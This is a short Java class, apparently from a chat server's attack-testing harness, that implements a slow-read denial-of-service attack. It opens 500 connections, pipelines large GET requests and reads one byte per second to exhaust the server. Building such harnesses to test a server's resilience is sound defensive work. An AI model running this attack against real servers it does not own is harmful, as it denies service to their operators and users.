package chat.maru.attack;

import java.net.URI;
import java.time.Duration;

/** Clients that request large answers and read one byte a second. */
final class SlowReaders implements Attack {

	private static final int PEERS = 500;

	private static final int PIPELINED = 20;

	private final String path;

	SlowReaders(String path) {
		this.path = path;
	}

	@Override
	public void run(URI server, Duration time) {
		String requests = ("GET " + this.path + " HTTP/1.1\r\nHost: localhost\r\n\r\n").repeat(PIPELINED);
		try (Attackers attackers = new Attackers(server)) {
			for (int i = 0; i < PEERS; i++) {
				attackers.open(2 + i % 3);
			}
			attackers.send(requests);
			Attackers.everySecond(time, attackers::readOneByte);
		}
	}

	@Override
	public String toString() {
		return "slow readers of " + this.path;
	}

}
